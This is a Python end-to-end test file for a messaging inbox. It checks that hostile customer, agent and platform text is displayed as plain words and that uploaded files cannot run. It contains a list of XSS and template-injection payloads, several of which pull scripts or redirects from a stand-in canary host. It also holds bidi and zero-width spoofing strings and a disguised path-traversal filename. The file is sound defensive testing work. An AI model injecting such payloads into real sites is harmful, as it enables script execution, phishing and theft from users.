"""Nothing that a customer, an agent, a machine or a platform says can run, load or break anything on any screen."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from hubbub.kit.ids import new_id
from hubbub.processes.postgres import wait_until
from tests.e2e.conftest import Hub
from tests.e2e.looking import addresses, rest

if TYPE_CHECKING:
    from playwright.sync_api import Page

FOREIGN = "https://canary.invalid"
RUN = "window.pwned=1"
RUNNING = [
    f"<script>{RUN}</script>",
    f'"><script src="{FOREIGN}/x.js"></script>',
    f"<img src=x onerror={RUN}>",
    f"<img src={FOREIGN}/a.png onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror={RUN}>'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data={FOREIGN}/o.swf></object><embed src={FOREIGN}/e.swf>",
    f"<a href=javascript:{RUN}>tap</a>",
    f"javascript:{RUN}//https://example.com",
    f"data:text/html,<script>{RUN}</script>",
    f"<body onpageshow={RUN}><details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}><video><source onerror={RUN}></video>",
    f"<style>@import '{FOREIGN}/x.css';body{{display:none}}</style>",
    f"<link rel=stylesheet href={FOREIGN}/x.css><meta http-equiv=refresh content='0;url={FOREIGN}'>",
    f"<base href={FOREIGN}><form action={FOREIGN}><button>Sign in</button></form>",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
    f"';{RUN};' \";{RUN};\" `;{RUN};` \\u003cscript\\u003e{RUN}",
    f"![x]({FOREIGN}/m.png) [y](javascript:{RUN}) <!--#exec cmd='x'-->",
    f'https://example.com/"onmouseover={RUN}//',
    f"https://example.com@{FOREIGN.removeprefix('https://')}/'><script>{RUN}</script>",
]
BREAKING = [
    "\u202emp4.exe\u202c after \u2066isolated\u2069 \u200f\u200e",
    "\u202e\u202e\u202e never closed",
    "\u200b\u200c\u200d\u2060\ufeff invisible \u200b",
    "Z" + "\u0300\u0301\u0302\u0334\u0489" * 400,
    "unbroken" * 500,
    "ﷺ" * 200 + "꧅" * 200,
    "👨‍👩‍👧‍👦" * 100,
    "a\x00b\x07c\x1bd",
    "สวัสดี" * 300,
    "\n" * 200 + "below",
]
TEXTS = BREAKING + RUNNING
"""300 payloads would look at the same places again: each of these is another way in."""
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'.encode()
HTML = f"<!doctype html><script>{RUN}; document.title = 'ran'</script>".encode()
LISTENING = """
window.violations = [];
addEventListener('securitypolicyviolation', (told) => window.violations.push(told.violatedDirective + told.blockedURI));
"""
RAN = "() => [window.pwned, ...window.violations].filter(Boolean)"
PLANTED = """() => [...document.querySelectorAll('body *')].filter((one) =>
    one.matches('iframe, object, embed, base, meta, form[action*=canary], script:not([src^="/assets/"])')
    || one.getAttributeNames().some((name) => name.startsWith('on'))
    || ['src', 'srcset', 'data', 'poster', 'action', 'style'].some((name) => one.getAttribute(name)?.includes('canary'))
  ).map((one) => one.outerHTML.slice(0, 200))"""
LINKS = """() => [...document.querySelectorAll('a[href]')].filter((one) => {
    if (!/^https?:$/.test(one.protocol)) return true;
    const isOurs = one.origin === location.origin;
    const isSafe = one.relList.contains('noopener') && one.relList.contains('noreferrer') && one.target === '_blank';
    return !isOurs && !isSafe;
  }).map((one) => one.outerHTML.slice(0, 200))"""
WIDER = """() => document.documentElement.scrollWidth > innerWidth
  ? ['the page is ' + document.documentElement.scrollWidth + ' wide'] : []"""


ACCOUNTS = {"facebook": "Demo Page", "whatsapp": "Demo WhatsApp"}


@dataclass(slots=True)
class Haunt:
    """What was planted: conversations by platform, and what has to be taken away again."""

    people: dict[str, str] = field(default_factory=dict)
    conversations: dict[str, str] = field(default_factory=dict)
    planted: list[str] = field(default_factory=list)


def _name(number: int) -> str:
    return RUNNING[number % len(RUNNING)][:180]


def _acts(platform: str) -> list[dict[str, Any]]:
    """Hostile in every place where a customer of this platform can put words."""
    says: list[dict[str, Any]] = [{"text": text} for text in TEXTS if platform == "facebook" or text in RUNNING[:6]]
    drawing = {"mime_type": "image/svg+xml", "content_base64": _base64(SVG)}
    page = {"mime_type": "image/jpeg", "content_base64": _base64(HTML)}
    named = f"{_name(2)}.svg"
    if platform in ("facebook", "instagram"):
        says += [{"type": "image", **drawing}, {"type": "image", **page}]
        says += [{"type": "share", "url": f"javascript:{RUN}"}, {"type": "image", "url": f"{FOREIGN}/p.png"}]
        says += [{"text": "ad", "referral": {"ref": _name(0), "headline": _name(2), "source": "ADS", "type": "X"}}]
    if platform == "facebook":
        says += [{"type": "location", "title": _name(4)}, {"type": "fallback", "url": f"{FOREIGN}/", "title": _name(0)}]
        says += [{"type": "file", "filename": named, **drawing}]
        says += [{"action": "postback", "payload": _name(0), "title": _name(2)}]
        says += [{"action": "comment", "text": _name(2)}]
    if platform == "whatsapp":
        says += [{"type": "document", "filename": named, "caption": _name(2), **drawing}]
        says += [{"type": "document", "filename": "../../\u202egpj.exe", **page}]
        says += [{"type": "location", "name": _name(2), "address": _name(4), "url": f"javascript:{RUN}"}]
        card = {"name": {"formatted_name": _name(2), "first_name": _name(0)}, "phones": [{"phone": _name(4)}]}
        says += [{"type": "contacts", "contacts": [{**card, "urls": [{"url": f"javascript:{RUN}"}]}]}]
        item = {"product_retailer_id": _name(2), "quantity": 1, "item_price": 1, "currency": "<b>"}
        says += [{"type": "order", "items": [item], "text": _name(2)}]
    if platform == "line":
        says += [{"type": "location", "title": _name(2), "address": _name(4)}]
        says += [{"type": "file", "filename": named, **drawing}]
    return says


def _base64(content: bytes) -> str:
    import base64

    return base64.b64encode(content).decode()


def _plant_conversation(hub: Hub, haunt: Haunt, platform: str) -> None:
    key = f"haunt{new_id().hex[-6:]}"
    place = {"platform": platform, "account": hub.account(platform), "from": key}
    hostile = f"{_name(2)} {key}"
    profile = {"first_name": _name(2), "last_name": key, "name": hostile, "displayName": hostile, "username": _name(0)}
    made = hub.http.put(
        f"/_sandbox/customers/{platform}/{place['account']}/{key}", json={"name": hostile, "profile": profile}
    )
    assert made.status_code == 200, made.text
    hub.pause_machines(platform)
    # WhatsApp dates by the second: what is to be last comes some seconds later.
    acts = [{"text": "", "ago": 9, **place, **act} for act in _acts(platform)]
    for first in range(0, len(acts), 20):
        hub.play("/batch", {"acts": acts[first : first + 20]})
    haunt.people[platform] = str(made.json()["customer_id"])
    hub.play("/say", {**place, "text": "the end"})
    rows: list[dict[str, Any]] = []

    def has_come() -> bool:
        listed = hub.api.get("/conversations", params={"platform": platform, "limit": 50}).json()["items"]
        rows[:] = [one for one in listed if one["last_message_text"] == "the end" and key in str(one["contact_name"])]
        return bool(rows)

    assert wait_until(has_come, 60), platform
    haunt.conversations[platform] = rows[0]["id"]
    _answer(hub, rows[0]["id"], rows[0]["contact_id"])


def _answer(hub: Hub, conversation: str, contact: str) -> None:
    """What agents and machines may write beside it and into it."""
    place = f"/conversations/{conversation}"
    buttons = [{"type": "postback", "title": _name(11)[:20], "payload": _name(0)}]
    for draft in (
        {"kind": "text", "text": _name(2)},
        {"kind": "text", "text": "choose", "quick_replies": [{"type": "message", "title": _name(4)[:13]}]},
        {"kind": "buttons", "text": _name(0), "buttons": buttons},
    ):
        hub.api.post(f"{place}/messages", json={"is_confirmed": True, **draft})
    for text in (RUNNING[0], RUNNING[2], BREAKING[0], BREAKING[3][:900]):
        assert hub.api.post(f"{place}/notes", json={"text": text}).status_code < 300
    attributes = {f"k{number}": _name(number) for number in range(6)}
    hub.api.patch(f"/contacts/{contact}", json={"attributes": attributes, "language": "th"})
    hub.api.post("/leads", json={"contact_id": contact, "score": 40, "title": _name(2)})


def _plant_words(hub: Hub, haunt: Haunt) -> None:
    """Everything that has a name in an organisation."""
    label = f"<img src=x onerror={RUN}>"
    for path, body in (
        ("/labels", {"name": label, "color": "#cc0000", "description": _name(0)}),
        ("/canned-replies", {"shortcut": "haunt", "title": _name(2), "text": _name(0), "is_shared": True}),
        ("/views", {"name": _name(4)[:60], "filters": {"name_contains": _name(2)}, "is_shared": True}),
        ("/teams", {"name": _name(2)[:60], "description": _name(0)}),
        ("/api-keys", {"name": _name(2)[:60], "role": "viewer"}),
    ):
        made = hub.api.post(path, json=body)
        assert made.status_code < 300, made.text
        haunt.planted.append(f"{path}/{made.json()['id']}")
    for conversation in haunt.conversations.values():
        hub.api.post(f"/conversations/{conversation}/tags", json={"add": [label], "remove": []})


@pytest.fixture(scope="module")
def haunt(hub: Hub) -> Iterator[Haunt]:
    made = Haunt()
    for platform in ("facebook", "instagram", "whatsapp", "line"):
        _plant_conversation(hub, made, platform)
    _plant_words(hub, made)
    yield made
    for path in made.planted:
        hub.api.delete(path)


@pytest.fixture
def page(desks: Any) -> Page:
    return _listening(desks(viewport={"width": 1440, "height": 1400}, reduced_motion="reduce"))


@pytest.fixture
def tall(desks: Any) -> Page:
    """So tall that a whole thread stands in it."""
    return _listening(desks(viewport={"width": 1440, "height": 9000}, reduced_motion="reduce"))


def _listening(desk: Any) -> Page:
    """What the window complains of, and whomever else it asks, fails the test."""
    desk.page.on("dialog", lambda dialog: desk.complaints.append(f"dialog: {dialog.message}"))
    desk.page.add_init_script(LISTENING)
    shown: Page = desk.page
    return shown


def harmed(page: Page) -> list[str]:
    """What ran, was planted, leads astray or broke the page; empty is right."""
    rest(page)
    return [str(one) for script in (RAN, PLANTED, LINKS, WIDER) for one in page.evaluate(script)]


@pytest.mark.parametrize("platform", ["facebook", "instagram", "whatsapp", "line"])
def test_a_conversation_shows_hostile_words_as_words(haunt: Haunt, tall: Page, platform: str) -> None:
    page = tall
    page.goto(f"/inbox/{haunt.conversations[platform]}")
    thread = page.get_by_role("region", name="Messages", exact=True)
    thread.get_by_text("the end", exact=True).wait_for()
    page.get_by_role("region", name="Notes", exact=True).get_by_text(RUNNING[2]).first.wait_for()
    assert harmed(page) == []
    said = thread.inner_text()
    assert [text for text in RUNNING[:6] if text not in said] == []
    if platform == "facebook":
        shown = set(thread.locator("p[dir=auto]").all_text_contents())
        assert [text for text in RUNNING if text not in shown] == []


def test_names_are_only_names_wherever_they_are_offered(haunt: Haunt, page: Page) -> None:
    page.goto("/inbox")
    page.locator("article").first.wait_for()
    assert harmed(page) == []
    page.get_by_role("button", name="Filter", exact=True).click()
    page.get_by_role("menuitem", name="Label", exact=True).hover()
    page.get_by_role("menuitem", name=RUNNING[2]).wait_for()
    assert harmed(page) == []
    page.goto(f"/inbox/{haunt.conversations['line']}")
    page.get_by_role("textbox", name="Reply").press_sequentially("/haunt")
    page.get_by_role("list", name="Suggestions").get_by_role("listitem").or_(
        page.get_by_role("listbox", name="Suggestions").get_by_role("option")
    ).first.wait_for()
    assert harmed(page) == []
    page.keyboard.press("Control+k")
    page.get_by_role("dialog").wait_for()
    assert harmed(page) == []


def test_the_phone_trusts_the_business_as_little(haunt: Haunt, page: Page) -> None:
    page.goto("/sandbox")
    for skin, platform in {"Messenger": "facebook", "WhatsApp": "whatsapp"}.items():
        page.get_by_role("button").filter(has_text=haunt.people[platform]).or_(
            page.get_by_role("button").filter(has_text="haunt").filter(has_text=ACCOUNTS[platform])
        ).first.click()
        page.get_by_label(skin, exact=True).get_by_text("the end", exact=True).wait_for()
        assert harmed(page) == []


def test_every_other_screen_shows_them_as_words(haunt: Haunt, page: Page) -> None:
    for address in addresses():
        if "$" not in address:
            page.goto(address)
            page.get_by_role("heading").or_(page.get_by_role("link")).first.wait_for()
            assert harmed(page) == [], address


def test_files_of_customers_are_downloads_or_cannot_run(hub: Hub, haunt: Haunt) -> None:
    links = [url for conversation in haunt.conversations.values() for url in _files(hub, conversation)]
    assert len(links) >= 4
    for url in links:
        answer = httpx.get(url, trust_env=False)
        kind = answer.headers["content-type"]
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"]
        is_drawn = answer.headers["content-disposition"].startswith("inline")
        assert not (is_drawn and kind.startswith(("text/", "image/svg", "application/"))), (kind, url)


def _files(hub: Hub, conversation: str) -> list[str]:
    """Addresses of what came; what could only be had from elsewhere never comes."""
    messages: list[dict[str, Any]] = []

    def are_there() -> bool:
        answer = hub.api.get(f"/conversations/{conversation}/messages", params={"limit": 100}).json()
        messages[:] = answer["items"]
        waiting = [file for one in messages for file in one["attachments"] if file["state"] == "pending"]
        return len(waiting) <= 1

    assert wait_until(are_there, 60)
    return [file["url"] for one in messages for file in one["attachments"] if file["url"]]
